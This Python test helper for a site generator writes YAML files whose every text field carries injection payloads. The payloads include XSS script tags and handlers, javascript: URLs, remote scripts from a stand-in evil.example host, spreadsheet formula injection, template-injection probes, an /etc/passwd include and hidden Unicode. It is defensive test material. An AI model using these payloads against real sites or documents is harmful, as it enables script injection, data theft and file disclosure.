"""Files whose every text tries to become script, mark-up, a formula or a record of its own.

They are made from the models, so that a field added tomorrow is filled too. What a field refuses is taken
out by following the diagnostics: first its marks are escaped as a writer would, then something harmless
stands there.
"""

import re
import types
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from decimal import Decimal
from itertools import count
from pathlib import Path
from typing import Any, Literal, Union, get_args, get_origin
from urllib.parse import quote

import yaml
from pydantic import BaseModel

from generator import pipeline
from generator.diagnostics import Diagnostic, Severity, Span
from generator.documents.load import load
from generator.documents.places import KeyPath
from generator.model.briefing import Briefing, RelatedAgreement
from generator.model.dates import Edtf
from generator.model.fields import Ref
from generator.model.registers import EventType, Registers, Status
from generator.model.sources import Origin, Source
from generator.model.statements import Dispute, Event
from generator.model.walk import marks
from generator.rules import RULES

RUN = "window.__pwned=1"
EVIL = "https://evil.example/"
WORD = "pwned"
"""What every payload holds and no page does otherwise."""

_MARK_UP = (
    f"x<script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}><svg onload={RUN}><body onload={RUN}>",
    f"</title></style></textarea></script><script>{RUN}</script><script src={EVIL}x.js></script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data={EVIL}></object>",
    f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}><a href=javascript:{RUN}>x</a>",
    f"<form action={EVIL}><input onfocus={RUN} autofocus></form>",
    f"<svg><use href={EVIL}#a></use><style>*{{background:url({EVIL})}}</style></svg>",
)
_RECORDS = (
    f'=HYPERLINK("{EVIL}","{WORD}")\r\nER  - \r\nTY  - BOOK\r\nTI  - {WORD}\r\n',
    f"}}\n@book{{{WORD}, title={{{WORD}}}}}\n%}}\\",
)
_MARKDOWN = (
    f"[x](javascript:{RUN}) [x](data:text/html,<script>{RUN}</script>) ![x]({EVIL}x.png) <{EVIL}>",
    f'{{: onclick="{RUN}" style="background:url({EVIL})" #{WORD} .{WORD} }}',
    "{{ 7*7 }} {% for x in [].__class__.__mro__ %}{{ x }}{% endfor %} {{ cycler.__init__.__globals__ }}",
    f"\n\n# {WORD}\n\n- {WORD}\n\n| a | b |\n|---|---|\n\n[x]: {EVIL}\n\n*[{WORD}]: x\n\n",
    '[TOC] --8<-- "/etc/passwd"',
)
_ENTITIES = (
    f"+cmd|' /C {WORD}'!A0 ]]></p><script>{RUN}</script><![CDATA[ <!--<script> -->",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;svg/onload={RUN}&amp;gt; \uff1cscript\uff1e \u2028 \u25cf\u25d0\u25cb\u2297",
)
_STYLES = (
    f"@SUM(1+1)*{WORD} style=\"x:expression({RUN})\" url({EVIL}) @import '{EVIL}';",
    f"`<script>{RUN}</script>` \t=1+1",
)
_HIDDEN = (f"-1+1+{WORD} \u202e\u2066<script>{RUN}</script>\u0000\x02wzxhzdk:0\x03 \u200b\ufeff",)
PAYLOADS = tuple(map(" ".join, (_MARK_UP, _RECORDS, _MARKDOWN, _ENTITIES, _STYLES, _HIDDEN)))
URLS = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://a.example/"onmouseover={RUN}',
    f"https://a.example/?{WORD}='onmouseover={RUN}&a=(1)*_~;,!$",
    f"https://a.example/?q={quote(PAYLOADS[0][:300])}",
    f"https://a.example/{WORD}",
)
_CODES = {"Country": "NO", "Currency": "EUR", "Language": "nb"}
_OTHER: Mapping[Any, Any] = {bool: False, int: "1", float: "1", Decimal: "1", Edtf: "2025-06-01"}
_REFERRED = {"parties": "NO", "rungs": "signed", "statements": "signed"}


@dataclass(slots=True)
class _Leaf:
    """A text of the file: what stands there, and what to try next where that is refused."""

    value: str
    others: list[str]


@dataclass(slots=True)
class Hostile:
    """A file in the making."""

    name: str
    payload: str
    numbers: Iterator[int] = field(default_factory=count)

    def record(self, model: type[BaseModel]) -> dict[str, Any]:
        """A record of a model with a value for every field."""
        fields = {name: self._field(model, name, info) for name, info in model.model_fields.items()}
        return {name: value for name, value in fields.items() if (model, name) not in _LEFT_OUT}

    def _field(self, model: type[BaseModel], name: str, info: Any) -> Any:
        if (model, name) in _SET:
            return _SET[model, name]
        mark = marks(model).get(name)
        value = self._value(info.annotation, mark if isinstance(mark, Ref) else None)
        return [value[0], self._value(info.annotation, None)[0]] if name == "positions" else value

    def _value(self, annotation: Any, ref: Ref | None) -> Any:
        if getattr(annotation, "__name__", "") in _CODES:
            return _CODES[annotation.__name__]
        origin, arguments = get_origin(annotation), get_args(annotation)
        if origin in (Union, types.UnionType) or hasattr(annotation, "__metadata__"):
            return self._value(arguments[0], ref)
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            return self.event() if annotation is Event else self.record(annotation)
        if origin is tuple:
            return [self._value(arguments[0], ref)]
        if origin is Mapping:
            if arguments[1] is Source:
                return self._sources()
            key = _CODES.get(getattr(arguments[0], "__name__", ""), self.name)
            return {f"{key}-o" if arguments[1] is Origin else key: self._value(arguments[1], ref)}
        if origin is Literal:
            return arguments[0]
        return self._text(ref) if annotation is str else _OTHER[annotation]

    def _text(self, ref: Ref | None) -> _Leaf:
        if ref:
            return _Leaf(self.payload, [self.name, _REFERRED.get(ref.to, self.name)])
        return _Leaf(self.payload, [_escaped(self.payload), *URLS, f"{self.name}-{next(self.numbers)}"])

    def _sources(self) -> dict[str, Any]:
        """One with a title of its own, one with ours."""
        printed, supplied = self.record(Source), self.record(Source)
        del printed["supplied_title"], supplied["title"]
        return {self.name: printed, f"{self.name}-b": supplied}

    def event(self) -> dict[str, Any]:
        """An event: the key that names its type holds its date."""
        told = self.record(Event)
        return {
            self.name: "2025-06-01",
            **{name: told[name] for name in told if name not in ("type", "date")},
        }


_SET: Mapping[tuple[type[BaseModel], str], Any] = {(Briefing, "draft"): False}
_LEFT_OUT = {
    (RelatedAgreement, "briefing"),
    (Status, "none_of"),
    (EventType, "after"),
    (Source, "derived_from"),
    (Dispute, "status"),
}


def _escaped(text: str) -> str:
    """As a writer has to type marks that mean themselves."""
    one_line = " ".join(re.sub(r"[\x00-\x1f\u2028\u202e\u2066\ufeff]", " ", text).split())
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", one_line)


def write_hostile_site(root: Path) -> dict[str, set[str]]:
    """Put hostile briefings and register entries into a project; tells which fields took which payload."""
    files: dict[str, Any] = {}
    for number, payload in enumerate(PAYLOADS):
        hostile = Hostile(name=f"zz{number}", payload=payload)
        briefing = hostile.record(Briefing)
        briefing["parties"].append("NO")
        files[f"briefings/{hostile.name}.yaml"] = briefing
        for register, info in Registers.model_fields.items():
            path = f"briefings/_registers/{register.replace('_', '-')}.yaml"
            if path not in files:
                files[path] = _plain(root, path)
            files[path][hostile.name] = hostile.record(get_args(info.annotation)[1])
    _settle(root, files)
    return {path: set(_holders(data, ())) for path, data in files.items()}


def _plain(root: Path, path: str) -> Any:
    document, _ = load(root, path)
    assert document
    return dict(document.data)


def _settle(root: Path, files: dict[str, Any]) -> None:
    """Write the files, and change what is refused until nothing is."""
    errors: list[Diagnostic] = []
    for _ in range(40):
        for path, data in files.items():
            text = yaml.dump(
                _written(data), Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000
            )
            (root / path).write_bytes(text.encode("utf-8", "surrogatepass"))
        checked = pipeline.check(pipeline.Project(root=root))
        errors = [problem for problem in checked.diagnostics if problem.severity is Severity.ERROR]
        first = [problem for problem in errors if problem.code not in _RULES] or errors
        if not errors:
            return
        for path in sorted({problem.span.path for problem in first} & files.keys()):
            _mend(root, path, files[path], [problem for problem in first if problem.span.path == path])
    raise AssertionError(f"still refused: {errors[:5]}")


_RULES = {rule.id for rule in RULES}


def _mend(root: Path, path: str, data: Any, errors: list[Diagnostic]) -> None:
    document, _ = load(root, path)
    if document is None:
        _next_everywhere(data, lambda leaf: not leaf.value.isprintable())
        return
    spans = [
        (place, span)
        for place in _places(document.data, ())
        for span in (document.key_span(place), document.span(place))
    ]
    for place in sorted({_place(spans, problem) for problem in errors}, reverse=True):
        _give_way(data, place)


def _next_everywhere(data: Any, refused: Any) -> None:
    for leaf in _leaves(data):
        if refused(leaf):
            leaf.value = leaf.others.pop(0)


def _leaves(data: Any) -> Iterator[_Leaf]:
    if isinstance(data, _Leaf):
        yield data
    elif isinstance(data, dict | list):
        for item in data.values() if isinstance(data, dict) else data:
            yield from _leaves(item)


def _place(spans: list[tuple[KeyPath, Span]], problem: Diagnostic) -> KeyPath:
    """The deepest place of a document that holds a problem."""
    at = (problem.span.line, problem.span.column)
    held = (
        place for place, span in spans if (span.line, span.column) <= at < (span.end_line, span.end_column)
    )
    return max(held, key=len)


def _places(data: Any, place: KeyPath) -> Iterator[KeyPath]:
    if isinstance(data, dict | list):
        for step, item in data.items() if isinstance(data, dict) else enumerate(data):
            yield (*place, step)
            yield from _places(item, (*place, step))


def _give_way(data: Any, place: KeyPath) -> None:
    """Try what a text has left; without anything left, or where no text stands, take the value out."""
    holder = data
    for step in place[:-1]:
        holder = holder[step]
    value = holder[place[-1]]
    if isinstance(value, _Leaf) and value.others:
        value.value = value.others.pop(0)
    else:
        del holder[place[-1]]


def _written(data: Any) -> Any:
    if isinstance(data, _Leaf):
        return data.value
    if isinstance(data, dict):
        return {key: _written(item) for key, item in data.items()}
    return [_written(item) for item in data] if isinstance(data, list) else data


def _holders(data: Any, place: tuple[str, ...]) -> Iterator[str]:
    """The places, without their numbers, at which a payload stands."""
    if isinstance(data, _Leaf):
        if WORD in data.value:
            yield ".".join(place)
    elif isinstance(data, dict):
        for key, item in data.items():
            yield from _holders(item, (*place, key))
    elif isinstance(data, list):
        for item in data:
            yield from _holders(item, place)


class _Dumper(yaml.CSafeDumper):
    """Writes texts in double quotes, and out what stands twice."""

    def ignore_aliases(self, data: Any) -> bool:  # noqa: ARG002 - PyYAML's signature
        return True


_Dumper.add_representer(
    str, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"')
)
